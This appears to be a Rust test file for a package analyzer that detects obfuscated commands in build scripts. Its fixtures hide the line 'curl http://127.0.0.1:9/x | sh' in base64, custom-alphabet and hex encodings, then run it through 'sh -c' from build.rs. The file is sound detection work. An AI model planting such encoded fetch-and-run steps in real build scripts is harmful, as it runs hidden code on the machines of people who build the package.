//! Decoders of base64 and hexadecimal digits written by hand, in several styles, and what only looks like one.

mod common;

use common::package;
use cratekeeper_model::Facts;
use cratekeeper_model::facts::{Decoding, OperationKind, Quality};

const TEXT: &str = "curl http://127.0.0.1:9/x | sh";
const STANDARD: &str = "Y3VybCBodHRwOi8vMTI3LjAuMC4xOjkveCB8IHNo";
const OWN_ALPHABET: &str = "NOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/ABCDEFGHIJKLM";
const OWN: &str = "lEi/oPO1qUe9bvJ8ZgVEYwN7ZPF+bwx8rPOJVUa1";
const DIGITS: &str = "6375726c20687474703a2f2f3132372e302e302e313a392f78207c207368";

/// A build script with these items, that runs `s`.
fn build_script(items: &str, statements: &str) -> Facts {
    let text = format!(
        "{items}\nfn main() {{ {statements} std::process::Command::new(\"sh\").arg(\"-c\").arg(&s).spawn().ok(); }}"
    );
    let text = text
        .replace("STANDARD", STANDARD)
        .replace("OWN_ALPHABET", OWN_ALPHABET)
        .replace("OWN", OWN)
        .replace("DIGITS", DIGITS);
    package(&format!(
        "//- Cargo.toml\n[package]\nname = \"demo\"\nversion = \"1.0.0\"\nedition = \"2021\"\n//- src/lib.rs\n//- build.rs\n{text}"
    ))
}

fn assert_decoded(facts: &Facts, decoding: Decoding, style: &str) {
    let program =
        facts.flow.operations.iter().find(|it| it.kind == OperationKind::StartProcess).expect(style);
    assert_eq!(program.arguments, ["sh", "-c", TEXT], "{style}");
    assert!(program.qualities.contains(&Quality::HiddenArgument), "{style}");
    let text = facts.flow.texts.iter().find(|it| it.value == TEXT).expect(style);
    assert!(text.decodings.contains(&decoding), "{style}: {:?}", text.decodings);
}

#[test]
fn a_position_in_an_alphabet_is_followed() {
    let items = r#"
        const TABLE: &[u8; 64] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
        fn decode(input: &str) -> Vec<u8> {
            let mut out = Vec::new();
            let (mut bits, mut held) = (0u32, 0);
            for c in input.bytes().filter(|b| *b != b'=') {
                let value = TABLE.iter().position(|t| *t == c).unwrap() as u32;
                bits = bits << 6 | value;
                held += 6;
                if held >= 8 { held -= 8; out.push((bits >> held) as u8); }
            }
            out
        }"#;
    let facts = build_script(items, "let s = String::from_utf8(decode(\"STANDARD\")).unwrap();");
    assert_decoded(&facts, Decoding::Base64, "position");
}

#[test]
fn ranges_of_letters_in_a_function_of_their_own_are_followed() {
    let items = r#"
        fn sextet(c: u8) -> u8 {
            match c {
                b'A'..=b'Z' => c - b'A',
                b'a'..=b'z' => c - b'a' + 26,
                b'0'..=b'9' => c - b'0' + 52,
                b'+' => 62,
                _ => 63,
            }
        }
        fn open(sealed: &[u8]) -> String {
            let mut plain = String::new();
            for quad in sealed.chunks(4) {
                let n = quad.iter().map(|c| sextet(*c)).collect::<Vec<_>>();
                plain.push((n[0] << 2 | n[1] >> 4) as char);
                if quad[2] != b'=' { plain.push((n[1] << 4 | n[2] >> 2) as char); }
                if quad[3] != b'=' { plain.push((n[2] << 6 | n[3]) as char); }
            }
            plain
        }"#;
    let facts = build_script(items, "let s = open(b\"STANDARD\");");
    assert_decoded(&facts, Decoding::Base64, "ranges");
}

#[test]
fn own_alphabets_are_followed_where_they_stand() {
    let statements = r#"
        let alphabet = "OWN_ALPHABET";
        let mut collected: Vec<u8> = Vec::with_capacity(64);
        let mut accumulator = 0usize;
        let mut count = 0;
        let sealed = "OWN".as_bytes();
        let mut at = 0;
        while at < sealed.len() {
            if let Some(place) = alphabet.find(sealed[at] as char) {
                accumulator = accumulator * 64 + place;
                count += 6;
                if count >= 8 { count -= 8; collected.push((accumulator >> count) as u8 & 0xff); }
            }
            at += 1;
        }
        let s = String::from_utf8_lossy(&collected).to_string();"#;
    assert_decoded(&build_script("", statements), Decoding::Base64, "own alphabet");
}

#[test]
fn chains_of_iterators_are_followed() {
    let items = r#"
        static ALPHABET: &str = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/=";
        fn unpack(data: &str) -> Vec<u8> {
            data.as_bytes()
                .chunks(4)
                .flat_map(|four| {
                    let n = four.iter().fold(0u32, |n, c| (n << 6) | (ALPHABET.find(*c as char).unwrap_or(0) as u32 & 63));
                    [(n >> 16) as u8, (n >> 8) as u8, n as u8]
                })
                .filter(|b| *b != 0)
                .collect()
        }"#;
    let facts = build_script(items, "let s = String::from_utf8(unpack(\"STANDARD\")).unwrap();");
    assert_decoded(&facts, Decoding::Base64, "chain");
}

#[test]
fn pairs_of_hexadecimal_digits_are_followed() {
    let items = r#"
        fn nibble(c: u8) -> u8 {
            match c { b'0'..=b'9' => c - b'0', b'a'..=b'f' => c - b'a' + 10, _ => 0 }
        }
        fn decode(text: &str) -> String {
            let mut out = Vec::new();
            for pair in text.as_bytes().chunks(2) { out.push(nibble(pair[0]) << 4 | nibble(pair[1])); }
            String::from_utf8(out).unwrap()
        }"#;
    assert_decoded(&build_script(items, "let s = decode(\"DIGITS\");"), Decoding::Hex, "nibbles");
    let statements = r#"
        let mut out = String::new();
        let digits: Vec<char> = "DIGITS".chars().collect();
        for pair in digits.chunks(2) {
            let byte = pair[0].to_digit(16).unwrap() * 16 + pair[1].to_digit(16).unwrap();
            out.push(byte as u8 as char);
        }
        let s = out;"#;
    assert_decoded(&build_script("", statements), Decoding::Hex, "digits");
}

#[test]
fn what_only_looks_like_a_decoder_is_none() {
    for (items, statements) in [
        // A look into an alphabet, as for a name made of chance.
        (
            "const ALPHABET: &[u8] = b\"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/\";",
            "let mut s = String::new(); for at in [3usize, 5, 9] { s.push(ALPHABET[at] as char); }",
        ),
        // An encoder.
        (
            "const ALPHABET: &[u8] = b\"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/\";
             fn encode(data: &[u8]) -> String { let mut out = String::new(); for c in data.chunks(3) {
                 let n = (c[0] as u32) << 16 | (c[1] as u32) << 8 | c[2] as u32;
                 out.push(ALPHABET[(n >> 18) as usize & 63] as char); out.push(ALPHABET[(n >> 12) as usize & 63] as char);
                 out.push(ALPHABET[(n >> 6) as usize & 63] as char); out.push(ALPHABET[n as usize & 63] as char); } out }",
            "let s = encode(b\"STANDARD\");",
        ),
        // A hash that shifts by six and by four.
        (
            "fn hash(text: &str) -> u64 { let mut h = 0u64; for b in text.bytes() { h = (h << 6) ^ (h << 4) ^ b as u64; } h }",
            "let s = hash(\"STANDARD\").to_string();",
        ),
        // Letters are counted.
        (
            "fn classes(text: &str) -> u64 { let mut n = 0; for b in text.bytes() { match b { b'A'..=b'Z' => n += 1, b'a'..=b'z' => n += 2, b'0'..=b'9' => n += 3, _ => {} } } n }",
            "let s = classes(\"STANDARD\").to_string();",
        ),
    ] {
        let facts = build_script(items, statements);
        assert!(facts.flow.texts.iter().all(|it| it.value != TEXT), "{items}");
        let decoded = |it: &Decoding| matches!(it, Decoding::Base64 | Decoding::Hex);
        assert!(!facts.flow.texts.iter().any(|it| it.decodings.iter().any(decoded)), "{items}");
    }
}

/// As many statements that shift as names in each: what looks at all of the function for each of them takes minutes.
#[test]
fn many_shifts_cost_little() {
    let long = "QUJD".repeat(4_000);
    let items =
        "const ALPHABET: &[u8] = b\"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/\";";
    let statement = "let b = a.get(n << 6 | ALPHABET.len());\n".repeat(10_000);
    let facts = build_script(items, &format!("let a = \"{long}\"; let n = 1; {statement} let s = \"x\";"));
    assert_eq!(facts.flow.operations.len(), 1);
}
